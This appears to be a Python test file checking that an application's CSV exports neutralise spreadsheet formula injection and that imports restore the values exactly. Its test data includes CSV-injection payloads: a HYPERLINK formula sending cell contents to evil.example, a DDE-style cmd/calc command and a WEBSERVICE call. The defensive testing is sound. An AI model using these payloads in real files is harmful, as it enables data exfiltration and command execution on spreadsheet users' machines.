"""CSV exports are safe to open in a spreadsheet (OWASP "CSV injection"), and still import back
exactly: a text cell starting with `=`, `+`, `-`, `@`, tab or CR gets a `'` in front, the import
takes it off again; numbers are typed and written as they are. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from open_registry.core import create_app
from open_registry.core.app import Registry
from open_registry.core.exports import cell, export
from open_registry.core.imports.importer import import_file
from open_registry.core.imports.rows import neutralise_cell, restore_cell
from open_registry.core.testing import auth_headers

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: names a spreadsheet would run, and legitimate text that looks like what the export writes
NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+44 20 7946 0958",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "''",
    "a=b",
]


def test_cells_that_start_a_formula_get_a_quote_numbers_do_not():
    assert cell("=1+2", "scalar") == "'=1+2"
    assert cell("-5", "scalar") == "'-5"  # text that looks like a number is still text
    assert cell(-5, "scalar") == "-5" and cell(-2.5, "any") == "-2.5"  # numbers are typed
    assert cell("'=x", "scalar") == "''=x" and cell("'x", "scalar") == "'x"
    assert cell(["@a", "b"], "split") == "'@a|b" and cell([-1, 2], "split") == "'-1|2"
    assert cell("=x", "any") == '"=x"'  # JSON text starts with a quote mark already
    assert cell(True, "scalar") == "true" and cell("a-b", "scalar") == "a-b"


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "])))
def test_restore_undoes_neutralise_exactly(text: str):
    out = neutralise_cell(text)
    assert restore_cell(out) == text
    assert not out.startswith(TRIGGERS)


def recipients(registry: Registry) -> list[dict[str, Any]]:
    svc = registry.services["recipient"]
    items = svc.search(svc.parser.from_params([("limit", "1000")])).items
    drop = ("_createdAt", "_updatedAt", "_createdBy", "_updatedBy")
    return sorted(({k: v for k, v in r.items() if k not in drop} for r in items), key=str)


def test_export_then_import_gives_the_same_formula_like_values(registry: Registry, tmp_path: Path):
    svc = registry.services["recipient"]
    for i, name in enumerate(NAMES):
        svc.create(
            {
                "identity": f"=did:x:{i}" if i % 2 else f"-did:x:{i}",
                "name": name,
                "dob": "1990-01-01",
                "gender": "Other",
                "enrollmentCode": f"-{i:02d}",  # text that looks like a negative number
                "comorbidities": ["-minus", "@at"] if i % 2 else ["=a", "b"],
                "address": {"district": "+plus", "state": "'=quoted"},
            },
            actor=None,
        )
    before = recipients(registry)
    path = tmp_path / "recipients.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        assert export(svc, fh, "csv") == len(NAMES)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(NAMES)
    for row in rows:
        assert not any(v.startswith(TRIGGERS) for v in row.values()), row
    assert {r["name"] for r in rows} >= {'\'=HYPERLINK("http://evil.example/?x="&A1,"click")'}
    assert {r["address.state"] for r in rows} == {"''=quoted"}
    with registry.db.engine.begin() as conn:
        conn.execute(svc.table.delete())
    result = import_file(svc, path, keep_ids=True)
    assert result.ok, result.errors
    assert recipients(registry) == before


def test_a_quoted_formula_in_a_hand_made_file_imports_without_its_quote(
    registry: Registry, tmp_path: Path
):
    path = tmp_path / "people.csv"
    path.write_text(
        "identity,name,dob,gender,yob\n"
        "did:x:1,'=SUM(A1),1990-01-01,Female,1990\n"
        "did:x:2,'plain,1990-01-01,Male,'1991\n"  # no formula after the quote: kept as it is
        "did:x:3,''-x,1990-01-01,Other,\n"
    )
    result = import_file(registry.services["recipient"], path)
    assert result.inserted == 2 and [e.pointer for e in result.errors] == ["/yob"], result.errors
    assert {r["name"] for r in recipients(registry)} == {"=SUM(A1)", "'-x"}


def test_the_export_route_neutralises_text_and_keeps_numbers(registry: Registry):
    registry.services["facility"].create(
        {
            "code": "NEG01",
            "name": '=WEBSERVICE("http://evil.example")',
            "category": "GOVT",
            "type": "Fixed location",
            "status": "Active",
            "address": {
                "addressLine1": "@Station Road",
                "district": "Riverside",
                "state": "Northland",
                "pincode": "560001",
            },
            "geoLocation": {"lat": -33.9249, "lon": 18.4241},
        },
        actor=None,
    )
    app = create_app(registry=registry)
    with TestClient(app, headers=auth_headers(registry)) as admin:
        resp = admin.get("/api/v1/facility/export?format=csv")
    assert resp.status_code == 200, resp.text
    (row,) = csv.DictReader(io.StringIO(resp.text))
    assert row["name"] == '\'=WEBSERVICE("http://evil.example")'
    assert row["address.addressLine1"] == "'@Station Road"
    assert row["geoLocation.lat"] == "-33.9249"  # a number, not text: written as it is
